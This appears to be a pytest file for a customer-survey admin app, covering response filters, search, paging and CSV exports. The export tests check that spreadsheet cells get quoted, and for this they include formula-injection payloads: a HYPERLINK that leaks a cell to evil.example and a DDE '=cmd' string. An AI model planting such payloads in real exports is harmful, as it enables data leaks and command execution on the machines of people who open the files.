"""The responses page (filters, search, paging) and the CSV exports of responses and escalations."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from fastapi import FastAPI
from sqlalchemy.orm import Session, sessionmaker

from clock import utcnow
from models import CheckIn, Customer, Escalation, Purchase, Response
from reports.responses import ResponseFilter, count_responses, find_responses
from reports.spreadsheet import safe_cell
from tests.conftest import at
from tests.test_admin import TestClient, log_in, make_app

ZONE = "Europe/Warsaw"
ROW = re.compile(r"<tr>\s*<td class=\"nowrap\">")


@pytest.fixture
def app(db: sessionmaker[Session]) -> FastAPI:
    return make_app(db, default_tz=ZONE)[0]


@pytest.fixture
def client(app: FastAPI, cast: dict[str, object]) -> Iterator[TestClient]:
    with TestClient(app, follow_redirects=False) as client:
        assert log_in(client).status_code == 303
        yield client


def respond(
    session: Session,
    customer: Customer,
    score: int,
    comment: str = "",
    *,
    received: datetime | None = None,
    kind: str = "post_delivery",
    channel: str = "sms",
    product: str | None = None,
    category: str = "",
) -> Response:
    """A survey answered at `received`, about a purchase of `product` when given."""
    when = received or utcnow() - timedelta(days=1)
    purchase = None
    if product is not None:
        purchase = Purchase(
            external_id=f"p-{customer.id}-{when.timestamp()}-{score}",
            customer_id=customer.id,
            product=product,
            category=category,
        )
        session.add(purchase)
        session.flush()
    checkin = CheckIn(
        customer_id=customer.id,
        purchase_id=purchase.id if purchase else None,
        kind=kind,
        dedupe_key=f"r-{customer.id}-{when.timestamp()}-{score}-{kind}",
        due_at=when - timedelta(hours=2),
        status="answered",
        sent_at=when - timedelta(hours=1),
        channel=channel,
    )
    session.add(checkin)
    session.flush()
    response = Response(
        checkin_id=checkin.id,
        customer_id=customer.id,
        score=score,
        category="promoter" if score >= 9 else "passive" if score >= 7 else "detractor",
        comment=comment,
        channel=channel,
        received_at=when,
    )
    session.add(response)
    session.flush()
    return response


@pytest.fixture
def answers(session: Session, cast: dict[str, Any]) -> dict[str, Response]:
    """Five answers that differ in every way a filter can tell apart."""
    found = {
        "en": respond(
            session,
            cast["en"],
            10,
            "Great service",
            received=at("2026-03-02 09:30"),
            product="Škoda Octavia",
            category="car",
        ),
        "pl": respond(
            session,
            cast["pl"],
            3,
            "Samochód stuka, nikt nie oddzwonił",
            received=at("2026-03-05 23:30"),  # 00:30 on the 6th in Warsaw
            product="Implant",
            category="dental",
        ),
        "uk": respond(
            session,
            cast["uk"],
            8,
            "Добре, але довго",
            received=at("2026-03-10 12:00"),
            kind="periodic",
            channel="telegram",
        ),
        "ru": respond(session, cast["ru"], 5, "", received=at("2026-03-12 12:00"), kind="service"),
        "th": respond(
            session, cast["th"], 9, "ดีมาก", received=at("2026-03-15 12:00"), channel="telegram"
        ),
    }
    session.commit()
    return found


def customers_shown(html: str) -> list[str]:
    return re.findall(r'<a href="/admin/customers/(cust-[a-z]+)">', html)


def test_every_response_is_shown_with_its_details(
    client: TestClient, answers: dict[str, Response]
) -> None:
    page = client.get("/admin/responses").text
    assert customers_shown(page) == ["cust-th", "cust-ru", "cust-uk", "cust-pl", "cust-en"]
    assert "5 responses" in page
    assert "Samochód stuka, nikt nie oddzwonił" in page and "Добре, але довго" in page
    assert "Anna Kowalska" in page  # the customer's rep
    assert "Škoda Octavia" in page and "dental" in page
    assert "periodic" in page and "telegram" in page
    # On the business's clock: 23:30 UTC on 5 March is 00:30 on the 6th in Warsaw.
    assert "2026-03-06 00:30 CET" in page
    assert "+48 *** *** 567" in page and "+48601234567" not in page  # phones masked


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"rep": "rep-1"}, ["cust-th", "cust-ru", "cust-uk", "cust-pl", "cust-en"]),
        ({"rep": "mgr-1"}, []),
        ({"product": "octavia"}, ["cust-en"]),
        ({"category": "dental"}, ["cust-pl"]),
        ({"kind": "periodic"}, ["cust-uk"]),
        ({"channel": "telegram"}, ["cust-th", "cust-uk"]),
        ({"language": "ru"}, ["cust-ru"]),
        ({"nps": "detractor"}, ["cust-ru", "cust-pl"]),
        ({"nps": "promoter"}, ["cust-th", "cust-en"]),
        ({"since": "2026-03-06", "until": "2026-03-10"}, ["cust-uk", "cust-pl"]),
        ({"until": "2026-03-05"}, ["cust-en"]),  # the 23:30 UTC answer is the 6th in Warsaw
        ({"channel": "telegram", "nps": "passive"}, ["cust-uk"]),
        ({"since": "not a date"}, ["cust-th", "cust-ru", "cust-uk", "cust-pl", "cust-en"]),
    ],
)
def test_the_filters_narrow_the_list(
    client: TestClient, answers: dict[str, Response], query: dict[str, str], expected: list[str]
) -> None:
    assert customers_shown(client.get("/admin/responses", params=query).text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("smith", ["cust-en"]),  # the customer's name, any case
        ("GREAT", ["cust-en"]),  # the comment, any case
        ("stuka", ["cust-pl"]),
        ("Добре", ["cust-uk"]),
        ("ดี", ["cust-th"]),
        ("100%", []),  # LIKE's wildcards are text here
    ],
)
def test_search_finds_the_customer_name_or_the_comment(
    client: TestClient, answers: dict[str, Response], text: str, expected: list[str]
) -> None:
    assert customers_shown(client.get("/admin/responses", params={"q": text}).text) == expected


def test_the_list_is_paged_and_the_pages_keep_the_filters(
    client: TestClient, session: Session, cast: dict[str, Any]
) -> None:
    start = at("2026-01-01 10:00")
    for n in range(120):
        respond(session, cast["en"], n % 11, f"answer {n:03d}", received=start + timedelta(hours=n))
    respond(session, cast["pl"], 10, "answer from Poland", received=start)
    session.commit()
    first = client.get("/admin/responses", params={"language": "en"}).text
    assert "120 responses match the filters" in first and "Page 1 of 3" in first
    assert len(ROW.findall(first)) == 50
    assert "answer 119" in first and "answer 069" not in first
    assert 'href="/admin/responses?language=en&amp;page=2"' in first
    third = client.get("/admin/responses", params={"language": "en", "page": "3"}).text
    assert len(ROW.findall(third)) == 20 and "answer 000" in third
    assert "answer from Poland" not in third
    beyond = client.get("/admin/responses", params={"language": "en", "page": "99"}).text
    assert "Page 3 of 3" in beyond  # past the end is the last page
    assert "Page 1 of 3" in client.get("/admin/responses?language=en&page=x").text


def test_the_query_function_counts_and_pages_in_the_database(
    session: Session, answers: dict[str, Response]
) -> None:
    filters = ResponseFilter(since=date(2026, 3, 6), zone=ZONE)
    assert count_responses(session, filters) == 4
    page = find_responses(session, filters, offset=1, limit=2)
    assert [row.customer_external_id for row in page] == ["cust-ru", "cust-uk"]
    assert ResponseFilter().is_empty() and not filters.is_empty()


def test_the_page_is_calm_with_no_responses(client: TestClient) -> None:
    page = client.get("/admin/responses").text
    assert "No responses yet" in page and "0 responses" in page


# ---------------------------------------------------------------- exports


def read_csv(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    assert answer.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    assert b"\r\n" in answer.content
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ('=HYPERLINK("http://evil.example","Fix")', '\'=HYPERLINK("http://evil.example","Fix")'),
        ("+1 415 555 0101", "'+1 415 555 0101"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("Great = good", "Great = good"),
        ("", ""),
        (None, ""),
        (7, 7),
        (-3, -3),  # numbers are numbers
    ],
)
def test_cells_that_could_be_formulas_are_quoted(value: Any, safe: Any) -> None:
    assert safe_cell(value) == safe


def test_the_responses_export_is_the_filtered_list_and_safe_to_open(
    client: TestClient, session: Session, cast: dict[str, Any], answers: dict[str, Response]
) -> None:
    respond(
        session,
        cast["en"],
        1,
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click to fix")',
        received=at("2026-03-20 12:00"),
    )
    respond(session, cast["en"], 2, "+1 call me back", received=at("2026-03-21 12:00"))
    session.commit()
    rows = read_csv(client.get("/admin/responses.csv", params={"nps": "detractor"}))
    assert [row["customer_external_id"] for row in rows] == [
        "cust-en",
        "cust-en",
        "cust-ru",
        "cust-pl",
    ]
    assert rows[0]["comment"] == "'+1 call me back"
    assert rows[1]["comment"].startswith("'=HYPERLINK(")
    assert rows[3]["comment"] == "Samochód stuka, nikt nie oddzwonił"
    assert rows[3][f"received_local ({ZONE})"] == "2026-03-06 00:30"
    assert rows[3]["received_at_utc"] == "2026-03-05T23:30:00+00:00"
    assert rows[3]["customer_phone"] == "'+48 *** *** 567"  # masked, and quoted as it starts with +
    assert rows[3]["score"] == "3" and rows[3]["product"] == "Implant"
    everything = read_csv(client.get("/admin/responses.csv"))
    assert {row["customer_name"] for row in everything} >= {"สมชาย ใจดี", "Олена Шевченко"}


def test_the_escalations_export_lists_them_safely(
    client: TestClient, session: Session, cast: dict[str, Any]
) -> None:
    low = respond(session, cast["en"], 2, "@SUM(1+1) they never called")
    for status, response in (("open", low), ("resolved", respond(session, cast["pl"], 4))):
        session.add(
            Escalation(
                kind="detractor",
                response_id=response.id,
                customer_id=response.customer_id,
                rep_id=cast["rep"].id,
                status=status,
                sla_due_at=utcnow() + timedelta(hours=2),
                resolution_note="=cmd|' /C calc'!A0" if status == "resolved" else None,
                resolved_at=utcnow() if status == "resolved" else None,
            )
        )
    session.commit()
    rows = read_csv(client.get("/admin/escalations.csv"))
    assert [row["status"] for row in rows] == ["open", "resolved"]
    assert rows[0]["comment"] == "'@SUM(1+1) they never called"
    assert rows[0]["rep_name"] == "Anna Kowalska" and rows[0]["score"] == "2"
    assert rows[1]["resolution_note"] == "'=cmd|' /C calc'!A0"
    assert f"opened_local ({ZONE})" in rows[0]
    only_open = read_csv(client.get("/admin/escalations.csv", params={"status": "open"}))
    assert [row["customer_external_id"] for row in only_open] == ["cust-en"]
    page = client.get("/admin/escalations").text
    assert 'href="/admin/escalations.csv"' in page


def test_the_nps_breakdown_export_matches_the_report(
    client: TestClient, answers: dict[str, Response]
) -> None:
    rows = read_csv(client.get("/admin/nps.csv", params={"by": "language", "period": "all"}))
    assert list(rows[0]) == [
        "language",
        "nps",
        "margin_of_error",
        "responses",
        "promoters",
        "passives",
        "detractors",
        "surveys_sent",
        "response_rate",
    ]
    by_group = {row["language"]: row for row in rows}
    assert list(by_group) == ["all", "en", "pl", "ru", "th", "uk"]
    assert (by_group["all"]["nps"], by_group["all"]["responses"]) == ("0.0", "5")
    assert (by_group["pl"]["nps"], by_group["pl"]["detractors"]) == ("-100.0", "1")
    assert by_group["all"]["response_rate"] == "100.0"
    fallback = read_csv(client.get("/admin/nps.csv", params={"by": "nonsense"}))
    assert "rep" in fallback[0] and fallback[1]["rep"] == "rep-1"
    assert 'action="/admin/nps.csv"' in client.get("/admin/").text


@pytest.mark.parametrize(
    "path", ["/admin/responses", "/admin/responses.csv", "/admin/escalations.csv", "/admin/nps.csv"]
)
def test_the_list_and_the_exports_need_a_login(app: FastAPI, path: str) -> None:
    with TestClient(app, follow_redirects=False) as anonymous:
        answer = anonymous.get(path)
    assert answer.status_code == 303
    assert answer.headers["location"].startswith("/admin/login")
